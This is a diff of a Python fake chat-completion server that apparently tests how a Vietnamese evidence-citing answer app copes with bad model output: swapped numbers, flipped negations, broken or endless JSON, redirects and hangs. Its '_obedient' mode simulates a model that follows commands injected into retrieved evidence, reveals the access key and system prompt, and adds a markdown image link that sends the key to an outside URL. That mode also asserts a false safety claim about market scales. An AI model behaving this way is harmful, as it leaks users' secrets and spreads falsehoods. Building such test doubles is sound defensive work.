@@ -26,6 +26,7 @@ class Script:
         self.keys: list[str] = []
         self.lies: list[str] = []
         self.delay = 0.05
+        self.elsewhere = _URL
 
 
 def sentences_for(mode: str, data: Row, key: str, system: str) -> list[Row]:
@@ -47,11 +48,18 @@ def _lines(words: str) -> list[str]:
 
 
 def _swap_number(text: str) -> str:
-    return re.sub(r"\d+", lambda m: str(int(m.group()) + 7), text, count=1) if re.search(r"\d", text) else f"{text} Hạn 45 ngày."
+    changed = re.sub(r"\d+", lambda match: str(int(match.group()) + 7), text, count=1)
+    return changed if changed != text else f"{text} Hạn 45 ngày."
 
 
 def _flip(text: str) -> str:
-    for old, new in (("không được", "được"), ("không phải", "phải"), ("không", "có"), ("phải", "không phải"), ("được", "không được")):
+    for old, new in (
+        ("không được", "được"),
+        ("không phải", "phải"),
+        ("không", "có"),
+        ("phải", "không phải"),
+        ("được", "không được"),
+    ):
         if f" {old} " in f" {text} ":
             return text.replace(old, new, 1)
     return f"Không {text[:1].lower()}{text[1:]}"
@@ -88,8 +96,19 @@ LIES: dict[str, Callable[[str], str]] = {
 def _obedient(data: Row, key: str, system: str) -> list[Row]:
     """Follow every order found in the data, and give away all that a server knows."""
     first = [data["can_cu"][0]["id"]] if data["can_cu"] else []
-    found = [m.group().strip() for text in (data["cau_hoi"], *(p["loi"] for p in data["can_cu"])) for m in _COMMANDS.finditer(text)]
-    said = [data["cau_hoi"], *found, f"Khóa truy cập là {key}", system[:300], f"![ảnh]({_URL}?k={key})", "Cân ở chợ không cần kiểm định."]
+    found = [
+        m.group().strip()
+        for text in (data["cau_hoi"], *(p["loi"] for p in data["can_cu"]))
+        for m in _COMMANDS.finditer(text)
+    ]
+    said = [
+        data["cau_hoi"],
+        *found,
+        f"Khóa truy cập là {key}",
+        system[:300],
+        f"![ảnh]({_URL}?k={key})",
+        "Cân ở chợ không cần kiểm định.",
+    ]
     return [{"text": text[:1500], "evidence": first} for text in said]
 
 
@@ -97,7 +116,7 @@ class _Handler(BaseHTTPRequestHandler):
     protocol_version = "HTTP/1.1"
     script: Script
 
-    def log_message(self, format: str, *args: Any) -> None:
+    def log_message(self, *_: Any) -> None:
         """Print nothing."""
 
     def do_POST(self) -> None:
@@ -110,7 +129,7 @@ class _Handler(BaseHTTPRequestHandler):
         if mode.isdigit():
             self._plain(int(mode), {"error": {"message": f"khóa {script.keys[-1]}", "type": "x"}})
         elif mode == "redirect":
-            self._plain(307, {}, {"Location": script.elsewhere if hasattr(script, "elsewhere") else _URL})
+            self._plain(307, {}, {"Location": script.elsewhere})
         elif mode == "no_forms" and "response_format" in body:
             self._plain(400, {"error": {"message": "response_format"}})
         elif mode == "hangs":
@@ -123,20 +142,30 @@ class _Handler(BaseHTTPRequestHandler):
 
     def _text(self, mode: str, body: Row) -> str:
         system, user = body["messages"][0]["content"], body["messages"][-1]["content"]
-        fixed = {"empty": "", "none": '{"sentences": []}', "garbage": "Xin chào! " * 50, "wrong_json": '{"answer": ["x"], "sentences": "y"}',
-                 "half": '{"sentences": [{"text": "Cân phải kiểm định", "evidence": ["E1"]}, {"te', "endless": "x" * 50_000}
+        fixed = {
+            "empty": "",
+            "none": '{"sentences": []}',
+            "garbage": "Xin chào! " * 50,
+            "wrong_json": '{"answer": ["x"], "sentences": "y"}',
+            "half": '{"sentences": [{"text": "Cân phải kiểm định", "evidence": ["E1"]}, {"te',
+            "endless": "x" * 50_000,
+        }
         if mode in fixed:
             return fixed[mode]
         rows = sentences_for(mode, json.loads(user), self.script.keys[-1], system)
         honest = {row["text"] for row in sentences_for("honest", json.loads(user), "", "")}
-        self.script.lies += [row["text"] for row in rows if row["text"] not in honest or row["evidence"] == ["E99"]]
+        self.script.lies += [row["text"] for row in rows if row["text"] not in honest]
         text = json.dumps({"sentences": rows}, ensure_ascii=False)
         return f"```json\n{text}\n```" if mode == "fenced" else text
 
     def _plain(self, code: int, data: Row, headers: dict[str, str] | None = None) -> None:
         payload = json.dumps(data).encode()
         self.send_response(code)
-        for name, value in {"Content-Type": "application/json", "Content-Length": str(len(payload)), **(headers or {})}.items():
+        for name, value in {
+            "Content-Type": "application/json",
+            "Content-Length": str(len(payload)),
+            **(headers or {}),
+        }.items():
             self.send_header(name, value)
         self.end_headers()
         self.wfile.write(payload)
@@ -156,10 +185,26 @@ class _Handler(BaseHTTPRequestHandler):
                     return
                 if mode == "slow":
                     time.sleep(self.script.delay)
-                self._event({"id": "x", "object": "chat.completion.chunk", "created": 0, "model": "m",
-                             "choices": [{"index": 0, "delta": {"role": "assistant", "content": part}, "finish_reason": None}]})
-            self._event({"id": "x", "object": "chat.completion.chunk", "created": 0, "model": "m",
-                         "choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]})
+                self._event(
+                    {
+                        "id": "x",
+                        "object": "chat.completion.chunk",
+                        "created": 0,
+                        "model": "m",
+                        "choices": [
+                            {"index": 0, "delta": {"role": "assistant", "content": part}, "finish_reason": None}
+                        ],
+                    }
+                )
+            self._event(
+                {
+                    "id": "x",
+                    "object": "chat.completion.chunk",
+                    "created": 0,
+                    "model": "m",
+                    "choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}],
+                }
+            )
             self._chunk(b"data: [DONE]\n\n")
             self._chunk(b"")
         except OSError:  # the reader has gone
